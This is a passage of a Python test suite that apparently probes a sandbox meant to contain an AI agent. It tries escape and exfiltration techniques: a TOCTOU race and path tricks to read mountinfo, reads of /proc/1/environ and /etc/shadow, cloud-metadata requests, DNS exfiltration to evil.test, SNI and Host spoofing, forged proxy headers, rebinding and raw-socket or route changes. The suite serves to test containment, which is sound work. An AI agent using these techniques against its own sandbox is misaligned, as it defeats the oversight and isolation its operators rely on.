        case("res.hog", lambda: hog(args[1], int(args[2]), args[3] if len(args) > 3 else None))
        time.sleep(0.2)  # a lazy kill would still come: give it time to land
        report("res.hog_survived", "ok")
    elif what == "ids":
        case("res.inotify_instances", inotify_exhaust)
        report("res.ids_ready", "ok")
        time.sleep(float(args[1]) if len(args) > 1 else 1.5)  # the host looks at our ids meanwhile
    elif what == "quota_total":
        # Every writable path named on the command line, filled in turn: the sum is the quota.
        total = 0
        for i, path in enumerate(args[1:]):
            got = []
            case("res.quota_fill_%d" % i, lambda p=path: got.append(fill_until_full(p + "/fill", 64 << 20)) or got[0])
            total += got[0] if got else 0
        report("res.quota_total", "ok %d" % total)
    elif what == "inodes":
        total = 0
        for i, path in enumerate(args[1:]):
            for kind in ("f", "d", "l"):
                got = []
                case("res.inodes_%s_%d" % (kind, i), lambda p=path, k=kind: got.append(create_until_full(p, k)) or got[0])
                total += got[0] if got else 0
        report("res.inodes_total", "ok %d" % total)
    elif what == "zero":
        for i, path in enumerate(args[1:]):
            case("res.zero_create_%d" % i, lambda p=path: os.close(os.open(p + "/f", os.O_WRONLY | os.O_CREAT, 0o644)))
            case("res.zero_mkdir_%d" % i, lambda p=path: os.mkdir(p + "/d"))
            case("res.zero_symlink_%d" % i, lambda p=path: os.symlink("x", p + "/l"))
            case("res.zero_statvfs_%d" % i, lambda p=path: "%d %d" % (os.statvfs(p).f_bfree, os.statvfs(p).f_ffree))
    elif what == "fds":
        case("res.fd_exhaust", fd_exhaust)
        case("res.raise_nofile", lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096)))
    elif what == "flood":
        case("res.output_flood", lambda: output_flood(int(args[1])))
    elif what == "core":
        case("res.core_limit", lambda: str(resource.getrlimit(resource.RLIMIT_CORE)))
        case("res.raise_core", lambda: resource.setrlimit(resource.RLIMIT_CORE, (-1, -1)))
        case("res.set_dumpable", lambda: libc.prctl(4, 1, 0, 0, 0))
        os.chdir("/workdir/out")
        os.abort()


# ---- information --------------------------------------------------------------------------

def b64file(path):
    with open(path, "rb") as f:
        return base64.b64encode(f.read()).decode()


def read_fd_b64(fd):
    data = b""
    while True:
        chunk = os.read(fd, 65536)
        if not chunk:
            break
        data += chunk
    os.close(fd)
    return base64.b64encode(data).decode()


def mountinfo_toctou(target, iterations=4000):
    """Race the observer: flip the path between an allowed file and `target`; return the
    first content read that is not the allowed file's."""
    a, b = b"/workdir/attack.py\0", target.encode() + b"\0"
    buf = ctypes.create_string_buffer(max(len(a), len(b)) + 1)
    with open("/workdir/attack.py", "rb") as f:
        mine = f.read()
    stop = threading.Event()

    def flipper():
        while not stop.is_set():
            ctypes.memmove(buf, a, len(a))
            ctypes.memmove(buf, b, len(b))
    t = threading.Thread(target=flipper)
    t.start()
    try:
        for _ in range(iterations):
            fd = libc.open(buf, os.O_RDONLY)
            if fd < 0:
                continue
            data = base64.b64decode(read_fd_b64(fd))
            if data != mine:
                return base64.b64encode(data).decode()
    finally:
        stop.set()
        t.join()
    raise OSError(errno.EACCES, "never opened")


def mountinfo_symlink():
    os.symlink("/proc/self/mountinfo", "/workdir/out/mi")
    return read_fd_b64(os.open("/workdir/out/mi", os.O_RDONLY))


def sysinfo_view():
    """sysinfo(2): RAM (bytes), swap, processes, uptime, as the agent sees them."""
    buf = ctypes.create_string_buffer(112)
    if libc.sysinfo(buf) != 0:
        raise OSError(ctypes.get_errno(), "sysinfo")
    uptime, l1, l2, l3, total, free, shared, buffers, swap, swapfree, procs = struct.unpack_from("@l3L6LH", buf.raw)
    unit = struct.unpack_from("=I", buf.raw, 104)[0]
    return "total=%d free_le_total=%d swap=%d procs=%d uptime_pos=%d" % (
        total * unit, free <= total, swap * unit, procs, uptime > 0)


def group_info(args):
    proc_self = os.open("/proc/self", os.O_RDONLY | os.O_DIRECTORY)
    case("info.mountinfo_openat", lambda: read_fd_b64(os.open("mountinfo", os.O_RDONLY, dir_fd=proc_self)))
    case("info.mountinfo_fd_path", lambda: read_fd_b64(os.open("/proc/self/fd/%d/mountinfo" % proc_self,
                                                                os.O_RDONLY)))
    case("info.mountinfo_thread_self", lambda: read_fd_b64(os.open("/proc/thread-self/mountinfo", os.O_RDONLY)))
    case("info.mountinfo_task", lambda: read_fd_b64(os.open("/proc/1/task/1/mountinfo", os.O_RDONLY)))
    case("info.mountinfo_root", lambda: read_fd_b64(os.open("/proc/self/root/proc/1/mountinfo", os.O_RDONLY)))
    case("info.mountinfo_slashes", lambda: read_fd_b64(os.open("//proc///self/./mountinfo", os.O_RDONLY)))
    case("info.mountinfo_symlink", mountinfo_symlink)
    case("info.mountinfo_toctou", lambda: mountinfo_toctou("/proc/self/mountinfo"))
    case("info.env", lambda: ",".join(sorted(os.environ)))
    case("info.manifest_env", lambda: os.environ["ESCAPE_MANIFEST_VAR"])
    case("info.kallsyms", lambda: len(open("/proc/kallsyms", "rb").read()))
    case("info.modules", lambda: len(open("/proc/modules", "rb").read()))
    case("info.kcore", lambda: os.stat("/proc/kcore").st_size)
    case("info.mountinfo", lambda: b64file("/proc/self/mountinfo"))
    case("info.mounts", lambda: b64file("/proc/self/mounts"))
    case("info.cgroup", lambda: b64file("/proc/self/cgroup"))
    case("info.hostname", lambda: os.uname().nodename)
    case("info.status", lambda: " ".join(l.replace("\t", "").strip() for l in open("/proc/self/status")
                                         if l.startswith(("CapEff", "CapPrm", "CapBnd", "NoNewPrivs", "Seccomp:"))))
    case("info.uid_map", lambda: open("/proc/self/uid_map").read().split())
    case("info.proc_listing", lambda: ",".join(sorted(os.listdir("/proc"))))
    case("info.root_listing", lambda: ",".join(sorted(os.listdir("/"))))
    case("info.sys", lambda: os.listdir("/sys"))
    case("info.sysinfo", sysinfo_view)
    case("info.sysinfo_bad_pointer", lambda: libc.sysinfo(ctypes.c_void_p(8)) == 0 or
         (_ for _ in ()).throw(OSError(ctypes.get_errno(), "sysinfo")))
    case("info.phys_pages", lambda: os.sysconf("SC_PHYS_PAGES") * os.sysconf("SC_PAGE_SIZE"))
    case("info.environ_pid1", lambda: base64.b64encode(open("/proc/1/environ", "rb").read()).decode())


# ---- network (C6, C7; issue #7 network class) -----------------------------------------------
# Every destination here is either undeclared, or declared with a protocol the attempt does
# not speak: nothing may reach the host-side listeners the driver set up (a TCP listener on
# 0.0.0.0, listeners on 127.0.0.1 behind the declared entries, a UDP socket, an abstract
# unix socket).

NET_T = 2.0
DNS_TYPES = {"A": 1, "NULL": 10, "TXT": 16, "AAAA": 28, "ANY": 255, "AXFR": 252}
DNS_RCODES = {0: "NOERROR", 1: "FORMERR", 2: "SERVFAIL", 3: "NXDOMAIN", 4: "NOTIMP", 5: "REFUSED"}


def tcp_try(addr, port, payload=b"ESCAPED", family=None):
    fam = family or (socket.AF_INET6 if ":" in addr else socket.AF_INET)
    with socket.socket(fam, socket.SOCK_STREAM) as s:
        s.settimeout(NET_T)
        s.connect((addr, int(port)))
        s.sendall(payload)
        data = s.recv(64)
        if not data:
            raise EOFError("closed")
        return "answered"


def tcp_proto_try(proto, addr, port):
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, proto) as s:
        s.settimeout(NET_T)
        s.connect((addr, int(port)))
        s.sendall(b"ESCAPED")
        return "connected"


def udp_try(addr, port, proto=0, payload=b"ESCAPED"):
    fam = socket.AF_INET6 if ":" in addr else socket.AF_INET
    with socket.socket(fam, socket.SOCK_DGRAM, proto) as s:
        s.settimeout(NET_T)
        s.sendto(payload, (addr, int(port)))
        return "sent"


def tls_try(addr, port, sni):
    import ssl
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    with socket.create_connection((addr, int(port)), timeout=NET_T) as raw:
        with ctx.wrap_socket(raw, server_hostname=None if sni == "-" else sni) as s:
            s.sendall(b"ESCAPED")
            if not s.recv(64):
                raise EOFError("closed")
            return "handshake"


def dns_q(name, qtype, server="127.0.0.1", transport="udp"):
    qid = int.from_bytes(os.urandom(2), "big")
    q = struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0)
    for label in name.rstrip(".").split("."):
        q += bytes([len(label)]) + label.encode()
    q += b"\0" + struct.pack(">HH", DNS_TYPES[qtype], 1)
    fam = socket.AF_INET6 if ":" in server else socket.AF_INET
    if transport == "tcp":
        with socket.socket(fam, socket.SOCK_STREAM) as s:
            s.settimeout(NET_T)
            s.connect((server, 53))
            s.sendall(struct.pack(">H", len(q)) + q)
            data = b""
            while len(data) < 2 or len(data) < 2 + struct.unpack(">H", data[:2])[0]:
                chunk = s.recv(4096)
                if not chunk:
                    raise EOFError("closed")
                data += chunk
            data = data[2:]
    else:
        with socket.socket(fam, socket.SOCK_DGRAM) as s:
            s.settimeout(NET_T)
            s.sendto(q, (server, 53))
            data = s.recvfrom(4096)[0]
    flags, an = struct.unpack(">H", data[2:4])[0], struct.unpack(">H", data[6:8])[0]
    out = [DNS_RCODES.get(flags & 0xF, str(flags & 0xF))]
    if an and flags & 0xF == 0:
        # The first answer's address (A only), after the question.
        off = 12
        while data[off] != 0:
            off += 1 + data[off]
        off += 5
        off += 2 if data[off] & 0xC0 == 0xC0 else 0
        rtype, _, _, rdlen = struct.unpack(">HHIH", data[off:off + 10])
        if rtype == 1 and rdlen == 4:
            out.append(socket.inet_ntoa(data[off + 10:off + 14]))
    return " ".join(out)


def via_dns(name, port):
    """Rebinding: resolve NAME with a raw query to the stub (not /etc/hosts), then connect."""
    answer = dns_q(name, "A").split()
    if len(answer) < 2:
        raise RuntimeError("no address: " + answer[0])
    return tcp_try(answer[1], port)


def ioctl_buf(fd, req, size=64):
    buf = ctypes.create_string_buffer(size)
    if req == 0x8914:  # SIOCSIFFLAGS: ifr_name "lo", flags 0 (down)
        buf.raw = b"lo" + b"\0" * (size - 2)
    r = libc.ioctl(fd, ctypes.c_ulong(req), buf)
    if r < 0:
        raise OSError(ctypes.get_errno(), "ioctl")
    return r


def sock_ioctl(req):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        return ioctl_buf(s.fileno(), req)


def sockopt(level, opt, value):
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
        s.setsockopt(level, opt, value)
        return "set"


def new_sock(family, kind, proto=0):
    s = socket.socket(family, kind, proto)
    s.close()
    return "created"


def netlink_dump(proto):
    # A NETLINK_ROUTE RTM_NEWROUTE / NETLINK_NETFILTER batch would follow; creating the
    # socket is where it must stop.
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, proto) as s:
        s.bind((0, 0))
        return "bound"


def fastopen_try(addr, port):
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDTIMEO, struct.pack("ll", int(NET_T), 0))
        s.sendto(b"ESCAPED", socket.MSG_FASTOPEN, (addr, int(port)))
        s.settimeout(NET_T)
        if not s.recv(64):
            raise EOFError("closed")
        return "answered"


class Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


class Msghdr(ctypes.Structure):
    _fields_ = [("name", ctypes.c_void_p), ("namelen", ctypes.c_uint32), ("iov", ctypes.POINTER(Iovec)),
                ("iovlen", ctypes.c_size_t), ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
                ("flags", ctypes.c_int)]


class Mmsghdr(ctypes.Structure):
    _fields_ = [("hdr", Msghdr), ("len", ctypes.c_uint)]


def sendmmsg_try(addr, port, n=8):
    sa = struct.pack("<H", socket.AF_INET) + struct.pack(">H", int(port)) + socket.inet_aton(addr) + b"\0" * 8
    name = ctypes.create_string_buffer(sa, len(sa))
    payload = ctypes.create_string_buffer(b"ESCAPED", 7)
    iov = Iovec(ctypes.cast(payload, ctypes.c_void_p), 7)
    msgs = (Mmsghdr * n)()
    for m in msgs:
        m.hdr = Msghdr(ctypes.cast(name, ctypes.c_void_p), len(sa), ctypes.pointer(iov), 1, None, 0, 0)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        r = libc.sendmmsg(s.fileno(), msgs, n, 0)
        if r < 0:
            raise OSError(ctypes.get_errno(), "sendmmsg")
        return r


def ping_try(family, proto, addr):
    with socket.socket(family, socket.SOCK_DGRAM, proto) as s:
        s.settimeout(NET_T)
        typ = 8 if family == socket.AF_INET else 128
        s.sendto(struct.pack(">BBHHH", typ, 0, 0, 0x5359, 1) + b"ESCAPED", (addr, 0))
        return "echo " + str(len(s.recvfrom(1024)[0]))


def broadcast_try(port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        s.sendto(b"ESCAPED", ("255.255.255.255", int(port)))
        return "sent"


def group_net(args):
    host_ip, any_port, https_port, http_port, lh_port, udp_port, abstract = args[:7]
    allowed = "allowed.test"
    # Literals: the host's own address and loopback, public, private, metadata, v6.
    case("net.v4_host_ip", lambda: tcp_try(host_ip, any_port))
    case("net.v4_loopback", lambda: tcp_try("127.0.0.1", any_port))
    case("net.v4_loopback_other", lambda: tcp_try("127.1.2.3", any_port))
    case("net.v4_zero", lambda: tcp_try("0.0.0.0", any_port))
    case("net.v4_public", lambda: tcp_try("93.184.216.34", 80))
    case("net.v4_private_10", lambda: tcp_try("10.0.0.1", 80))
    case("net.v4_private_172", lambda: tcp_try("172.16.0.1", 80))
    case("net.v4_private_192", lambda: tcp_try("192.168.1.1", 80))
    case("net.v4_cgnat", lambda: tcp_try("100.64.0.1", 80))
    case("net.metadata", lambda: tcp_try("169.254.169.254", 80,
                                          b"GET /latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n"))
    case("net.metadata_v6", lambda: tcp_try("fd00:ec2::254", 80))
    case("net.sandbox_own_addr", lambda: tcp_try("10.254.254.1", any_port))
    case("net.fake_unassigned", lambda: tcp_try("198.18.255.254", https_port))
    case("net.v6_loopback", lambda: tcp_try("::1", any_port))
    case("net.v6_literal", lambda: tcp_try("2001:db8::1", 80))
    case("net.v6_mapped_host", lambda: tcp_try("::ffff:" + host_ip, any_port))
    case("net.mptcp_host", lambda: tcp_proto_try(262, host_ip, any_port))
    case("net.sctp_host", lambda: tcp_proto_try(132, host_ip, any_port))
    # The gateway's own port, with forged proxy headers.
    case("net.gateway_direct", lambda: tcp_try("127.0.0.1", 15001,
                                               b"PROXY TCP4 10.254.254.1 127.0.0.1 40000 22\r\n"
                                               b"CONNECT 127.0.0.1:22 HTTP/1.1\r\nHost: 127.0.0.1:22\r\n\r\n"))
    case("net.gateway_direct_v6", lambda: tcp_try("::1", 15001))
    # The declared host, on another port or with another protocol.
    case("net.allowed_wrong_port", lambda: tcp_try(allowed, any_port))
    case("net.allowed_udp", lambda: udp_try(socket.gethostbyname(allowed), https_port))
    case("net.https_plaintext", lambda: tcp_try(allowed, https_port, b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n"))
    case("net.https_sni_mismatch", lambda: tls_try(allowed, https_port, "evil.test"))
    case("net.https_no_sni", lambda: tls_try(allowed, https_port, "-"))
    case("net.https_sni_suffix", lambda: tls_try(allowed, https_port, "allowed.test.evil.test"))
    case("net.http_host_mismatch", lambda: tcp_try(allowed, http_port, b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n"))
    case("net.http_duplicate_host", lambda: tcp_try(allowed, http_port,
                                                    b"GET / HTTP/1.1\r\nHost: allowed.test\r\nHost: evil.test\r\n\r\n"))
    case("net.http_tls", lambda: tls_try(allowed, http_port, allowed))
    case("net.http_absolute_uri", lambda: tcp_try(allowed, http_port,
                                                  b"GET http://169.254.169.254/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n"))
    case("net.http_proxy_header", lambda: tcp_try(allowed, http_port,
                                                  b"PROXY TCP4 10.0.0.1 127.0.0.1 1 22\r\nGET / HTTP/1.1\r\n"
                                                  b"Host: allowed.test\r\n\r\n"))
    case("net.http_connect", lambda: tcp_try(allowed, http_port, b"CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test\r\n\r\n"))
    # DNS: exfiltration, other types, other servers, TCP.
    case("net.dns_unlisted", lambda: dns_q("evil.test", "A"))
    case("net.dns_exfil_label", lambda: dns_q("6f70657261746f722d736563726574.allowed.test", "A"))
    case("net.dns_exfil_long", lambda: dns_q(".".join(["x" * 63] * 3) + ".evil.test", "A"))
    case("net.dns_txt", lambda: dns_q(allowed, "TXT"))
    case("net.dns_any", lambda: dns_q(allowed, "ANY"))
    case("net.dns_null", lambda: dns_q(allowed, "NULL"))
    case("net.dns_axfr_tcp", lambda: dns_q(allowed, "AXFR", transport="tcp"))
    case("net.dns_tcp_txt", lambda: dns_q(allowed, "TXT", transport="tcp"))
    case("net.dns_tcp_unlisted", lambda: dns_q("evil.test", "A", transport="tcp"))
    case("net.dns_8888_udp", lambda: dns_q("evil.test", "A", "8.8.8.8"))
    case("net.dns_8888_tcp", lambda: dns_q("evil.test", "A", "8.8.8.8", "tcp"))
    case("net.dns_v6_server", lambda: dns_q("evil.test", "A", "2001:4860:4860::8888"))
    case("net.dns_host_resolver", lambda: dns_q("evil.test", "A", host_ip))
    # DoH / DoT to IP literals.
    case("net.doh_1111", lambda: tls_try("1.1.1.1", 443, "cloudflare-dns.com"))
    case("net.dot_1111", lambda: tls_try("1.1.1.1", 853, "one.one.one.one"))
    case("net.doh_v6", lambda: tcp_try("2606:4700:4700::1111", 443))
    # Rebinding: `localhost` is declared (tcp); its upstream answer is the host's loopback.
    case("net.rebind_localhost", lambda: via_dns("localhost", lh_port))
    # Sockets the Comet refuses outright.
    case("net.raw_inet", lambda: new_sock(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP))
    case("net.raw_inet6", lambda: new_sock(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6))
    case("net.inet_sock_packet", lambda: new_sock(socket.AF_INET, 10, 0x0300))  # SOCK_PACKET
    case("net.packet_raw", lambda: new_sock(socket.AF_PACKET, socket.SOCK_RAW, 0x0300))
    case("net.packet_dgram", lambda: new_sock(socket.AF_PACKET, socket.SOCK_DGRAM, 0x0300))
    case("net.icmp_ping", lambda: ping_try(socket.AF_INET, socket.IPPROTO_ICMP, host_ip))
    case("net.icmp6_ping", lambda: ping_try(socket.AF_INET6, socket.IPPROTO_ICMPV6, "::1"))
    case("net.netlink_route", lambda: netlink_dump(0))
    case("net.netlink_netfilter", lambda: netlink_dump(12))
    case("net.netlink_sock_diag", lambda: netlink_dump(4))
    case("net.vsock", lambda: new_sock(40, socket.SOCK_STREAM))
    case("net.af_alg", lambda: new_sock(38, socket.SOCK_SEQPACKET))
    case("net.socketpair_inet", lambda: socket.socketpair(socket.AF_INET, socket.SOCK_STREAM) and "pair")
    # Rewriting the sandbox's routes and interfaces without netlink.
    case("net.ioctl_siocaddrt", lambda: sock_ioctl(0x890B))
    case("net.ioctl_siocsifflags_lo_down", lambda: sock_ioctl(0x8914))
    case("net.ioctl_siocsifaddr", lambda: sock_ioctl(0x8916))
    case("net.so_mark", lambda: sockopt(socket.SOL_SOCKET, 36, 1))  # SO_MARK
    case("net.ip_transparent", lambda: sockopt(socket.SOL_IP, 19, 1))  # IP_TRANSPARENT
    case("net.proc_sys_ip_forward", lambda: open("/proc/sys/net/ipv4/ip_forward", "w").write("1"))
    # Other ways to send the first byte.
    case("net.fastopen_host", lambda: fastopen_try(host_ip, any_port))
    case("net.sendmmsg_host", lambda: sendmmsg_try(host_ip, udp_port))
    case("net.udp_host", lambda: udp_try(host_ip, udp_port))
    case("net.udp_loopback", lambda: udp_try("127.0.0.1", udp_port))
    case("net.udplite_host", lambda: udp_try(host_ip, udp_port, 136))
    case("net.udp_multicast", lambda: udp_try("224.0.0.251", 5353))
    case("net.udp_broadcast", lambda: broadcast_try(udp_port))
    case("net.abstract_unix", lambda: connect("\0" + abstract))
    # After all of it, the rules still hold.
    case("net.still_refused", lambda: tcp_try(host_ip, any_port))
    case("net.alive", lambda: os.getpid())


def group_netstar(args):
    """egress "*": any destination, yet never the host itself, its loopback or metadata."""
    host_ip, any_port, udp_port = args[:3]
    case("star.host_ip", lambda: tcp_try(host_ip, any_port))
    case("star.loopback", lambda: tcp_try("127.0.0.1", any_port))
    case("star.v6_loopback", lambda: tcp_try("::1", any_port))
    case("star.metadata", lambda: tcp_try("169.254.169.254", 80))
    case("star.private_10", lambda: tcp_try("10.0.0.1", 80))
    case("star.rebind_localhost", lambda: via_dns("localhost", any_port))
    case("star.udp_host", lambda: udp_try(host_ip, udp_port))
    case("star.dns_txt", lambda: dns_q("anything.test", "TXT"))
    case("star.alive", lambda: os.getpid())


# ---- no denial without a report (issue #15) -----------------------------------------------

def ro_fd(path="/workdir/attack.py"):
    return os.open(path, os.O_RDONLY)


def on_ro_fd(fn, path="/workdir/attack.py"):
    fd = ro_fd(path)
    try:
        return fn(fd)
    finally:
        os.close(fd)


def out_file(name):
    path = "/workdir/out/" + name
    with open(path, "wb") as f:
        f.write(b"x")
    return path


def on_out_fd(name, fn):
    fd = os.open(out_file(name), os.O_RDWR)
    try:
        return fn(fd)
    finally:
        os.close(fd)


def unix_bind(path):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        s.bind(path)
    finally:
        s.close()


def deep_cwd(levels=17):
    """chdir into a tree under /tmp whose path is longer than PATH_MAX (4096): the kernel
    cannot name it in /proc/PID/cwd, so the observer cannot resolve relative paths."""
    os.chdir("/tmp")
    for i in range(levels):
        name = ("d%02d" % i) + "x" * 250
        os.mkdir(name)
        os.chdir(name)
    return levels + 1  # ".." steps up to /


def group_report(args):
    lp = libc_path()
    # Mode, times, size, owner and xattrs through an fd opened for reading.
    case("rep.fchmod_pack", lambda: on_ro_fd(lambda fd: os.fchmod(fd, 0o644)))
    case("rep.fchmod_libc", lambda: on_ro_fd(lambda fd: os.fchmod(fd, 0o755), lp))
    case("rep.futimens_pack", lambda: on_ro_fd(lambda fd: os.utime(fd)))
    case("rep.futimens_libc", lambda: on_ro_fd(lambda fd: os.utime(fd, (1, 1)), lp))
    case("rep.ftruncate_pack", lambda: on_ro_fd(lambda fd: os.truncate(fd, 0)))
    case("rep.fchown_pack", lambda: on_ro_fd(lambda fd: os.fchown(fd, os.getuid(), os.getgid())))
    case("rep.fsetxattr_pack", lambda: on_ro_fd(lambda fd: os.setxattr(fd, "user.x", b"1")))
    case("rep.fremovexattr_pack", lambda: on_ro_fd(lambda fd: os.removexattr(fd, "user.x")))
    # The same by path.
    case("rep.chmod_pack", lambda: os.chmod("/workdir/attack.py", 0o600))
    case("rep.fchmodat_nofollow_libc", lambda: os.chmod(lp, 0o600, follow_symlinks=False))
    case("rep.utime_pack", lambda: os.utime("/workdir/attack.py", (1, 1)))
    case("rep.utime_nofollow_etc", lambda: os.utime("/etc/passwd", (1, 1), follow_symlinks=False))
    case("rep.truncate_pack", lambda: os.truncate("/workdir/attack.py", 0))
    case("rep.chown_pack", lambda: os.chown("/workdir/attack.py", os.getuid(), os.getgid()))
    case("rep.lchown_libc", lambda: os.lchown(lp, os.getuid(), os.getgid()))
    case("rep.fchownat_pack", lambda: os.chown("attack.py", os.getuid(), os.getgid(),
                                               dir_fd=os.open("/workdir", os.O_RDONLY | os.O_DIRECTORY)))
    case("rep.setxattr_pack", lambda: os.setxattr("/workdir/attack.py", "user.x", b"1"))
    case("rep.lsetxattr_libc", lambda: os.setxattr(lp, "user.x", b"1", follow_symlinks=False))
    case("rep.removexattr_pack", lambda: os.removexattr("/workdir/attack.py", "user.x"))
    # Creations, removals and renames in read-only places.
    case("rep.link_in_pack", lambda: os.link("/workdir/attack.py", "/workdir/hl"))
    case("rep.symlink_in_pack", lambda: os.symlink("attack.py", "/workdir/sl"))
    case("rep.symlink_in_usr", lambda: os.symlink("x", "/usr/lib/sl"))
    case("rep.rename_pack_file", lambda: os.rename("/workdir/attack.py", "/workdir/out/stolen"))
    case("rep.rename_into_usr", lambda: os.rename(out_file("mv2"), "/usr/lib/mv2"))
    case("rep.mkdir_in_pack", lambda: os.mkdir("/workdir/d"))
    case("rep.mkdir_at_root", lambda: os.mkdir("/newdir"))
    case("rep.rmdir_usr_lib", lambda: os.rmdir("/usr/lib"))
    case("rep.unlink_pack", lambda: os.unlink("/workdir/attack.py"))
    case("rep.mkfifo_in_pack", lambda: os.mkfifo("/workdir/fifo"))
    case("rep.mknod_in_usr", lambda: os.mknod("/usr/lib/node", stat.S_IFREG | 0o644))
    case("rep.bind_unix_pack", lambda: unix_bind("/workdir/sock"))
    case("rep.bind_unix_etc", lambda: unix_bind("/etc/sock"))
    os.chdir("/workdir")
    case("rep.bind_unix_relative", lambda: unix_bind("rel.sock"))
    os.chdir("/")
    # Listing directories the agent sees only as ancestors of declared paths.
    case("rep.list_root", lambda: ",".join(sorted(os.listdir("/"))))
    case("rep.list_etc", lambda: ",".join(sorted(os.listdir("/etc"))))
    # Allowed counterparts: no violation.
    case("rep.ok_fchmod_out", lambda: on_out_fd("a", lambda fd: os.fchmod(fd, 0o600)))
    case("rep.ok_futimens_out", lambda: on_out_fd("b", lambda fd: os.utime(fd, (1, 1))))
    case("rep.ok_ftruncate_out", lambda: on_out_fd("c", lambda fd: os.truncate(fd, 0)))
    case("rep.ok_chmod_out", lambda: os.chmod(out_file("d"), 0o640))
    case("rep.ok_utime_out", lambda: os.utime(out_file("e"), (1, 1)))
    case("rep.ok_rename_out", lambda: os.rename(out_file("f"), "/workdir/out/f2"))
    case("rep.ok_link_out", lambda: os.link(out_file("g"), "/workdir/out/g2"))
    case("rep.ok_symlink_out", lambda: os.symlink("g", "/workdir/out/g3"))
    case("rep.ok_mkdir_out", lambda: os.mkdir("/workdir/out/dir"))
    case("rep.ok_mkfifo_tmp", lambda: os.mkfifo("/tmp/fifo"))
    case("rep.ok_bind_unix_tmp", lambda: unix_bind("/tmp/ok.sock"))
    case("rep.ok_bind_abstract", lambda: unix_bind("\0soyaos-report-" + str(os.getpid())))
    case("rep.ok_list_usr", lambda: str(len(os.listdir("/usr")) > 0))
    case("rep.ok_list_workdir", lambda: str("attack.py" in os.listdir("/workdir")))
    case("rep.ok_memfd_ftruncate", lambda: os.truncate(os.memfd_create("m"), 4096))
    # Owner and xattr changes where writing is allowed: refused (no capability), not reported.
    case("rep.eperm_chown_out", lambda: os.chown(out_file("h"), os.getuid(), os.getgid()))
    case("rep.eperm_setxattr_out", lambda: os.setxattr(out_file("i"), "user.x", b"1"))
    # A working directory deeper than PATH_MAX: every relative path is refused and reported.
    ups = deep_cwd()
    case("rep.deep_read_shadow", lambda: open("../" * ups + "etc/shadow", "rb").read())
    case("rep.deep_read_pack", lambda: open("../" * ups + "workdir/attack.py", "rb").read(1))
    case("rep.deep_write_usr", lambda: open("../" * ups + "usr/lib/pwned", "wb").close())
    case("rep.deep_create_here", lambda: open("here", "wb").close())
    case("rep.deep_dirfd", lambda: os.open("x", os.O_RDONLY, dir_fd=os.open(".", os.O_RDONLY)))
    os.chdir("/")
    case("rep.alive", lambda: os.getpid())


AT_FDCWD = -100 & (2**64 - 1)
AT_SYMLINK_NOFOLLOW, AT_EMPTY_PATH = 0x100, 0x1000
NR_CLONE3, NR_FCHMODAT2, NR_SETXATTRAT, NR_GETXATTRAT, NR_REMOVEXATTRAT = 435, 452, 463, 464, 466
NR_FILE_GETATTR, NR_FILE_SETATTR = 468, 469
CLONE_VM, CLONE_VFORK, CLONE_SIGHAND, CLONE_THREAD = 0x100, 0x4000, 0x800, 0x10000
FS_IOC_GETFLAGS, FS_IOC_SETFLAGS, FS_IOC_FSSETXATTR = 0x80086601, 0x40086602, 0x401c5820


def cstr(text):
    return ctypes.c_char_p(text.encode())


def fchmodat2(path, mode, flags=0, dirfd=AT_FDCWD):
    return sysc(NR_FCHMODAT2, dirfd, cstr(path), mode, flags)


def fchmodat2_fd(path, mode, writable=False):
    fd = os.open(path, os.O_RDWR if writable else os.O_RDONLY)
    try:
        return sysc(NR_FCHMODAT2, fd, cstr(""), mode, AT_EMPTY_PATH)
    finally:
        os.close(fd)


def xattr_args():
    # struct xattr_args {u64 value; u32 size; u32 flags}
    value = ctypes.create_string_buffer(b"1")
    _pages.append(value)
    buf = ctypes.create_string_buffer(struct.pack("=QII", ctypes.addressof(value), 1, 0))
    _pages.append(buf)
    return ctypes.addressof(buf), 16


def setxattrat(path, flags=0):
    addr, size = xattr_args()
    return sysc(NR_SETXATTRAT, AT_FDCWD, cstr(path), flags, cstr("user.x"), addr, size)


def getxattrat(path):
    value = ctypes.create_string_buffer(64)
    buf = ctypes.create_string_buffer(struct.pack("=QII", ctypes.addressof(value), 64, 0))
    return sysc(NR_GETXATTRAT, AT_FDCWD, cstr(path), 0, cstr("user.x"), ctypes.addressof(buf), 16)


def file_attr(nr, path, flags=0):
    fsx = ctypes.create_string_buffer(28)  # struct fsxattr, zeroed
    return sysc(nr, AT_FDCWD, cstr(path), fsx, 28, flags)


def clone3(flags, size=88):
    """A raw clone3 with these flags (exit_signal SIGCHLD when no thread). A child that ever
    starts leaves at once."""
    args = ctypes.create_string_buffer(struct.pack("=11Q", flags, 0, 0, 0, 0 if flags & CLONE_THREAD else 17,
                                                   0, 0, 0, 0, 0, 0))
    r = sysc(NR_CLONE3, ctypes.addressof(args), size)
    if r == 0:
        os._exit(0)
    return r


def group_modes(args):
    """Set-id modes, the newer *at syscalls of the fs surface and clone3: every refusal is reported."""
    lp = libc_path()
    # Set-id bits inside fs.write: EPERM, reported (C5: no set-id file for the host).
    case("mode.setuid_chmod", lambda: os.chmod(out_file("m1"), 0o4755))
    case("mode.setgid_chmod", lambda: os.chmod(out_file("m2"), 0o2750))
